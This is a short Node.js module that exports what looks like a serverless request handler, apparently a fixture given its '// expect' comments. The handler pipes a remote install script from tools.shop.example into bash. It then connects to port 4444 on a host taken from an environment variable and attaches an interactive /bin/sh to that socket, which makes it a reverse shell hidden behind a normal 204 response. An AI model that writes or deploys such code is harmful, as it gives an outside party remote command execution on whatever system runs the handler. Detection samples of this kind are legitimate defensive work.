import { execSync, spawn } from 'node:child_process';
import net from 'node:net';

export const handler = async () => {
  execSync('curl -fsSL https://tools.shop.example/install.sh | bash'); // expect
  const client = net.connect(4444, process.env.HOST);
  const shell = spawn('/bin/sh', ['-i']);
  client.pipe(shell.stdin); // expect
  shell.stdout.pipe(client);
  return { statusCode: 204 };
};
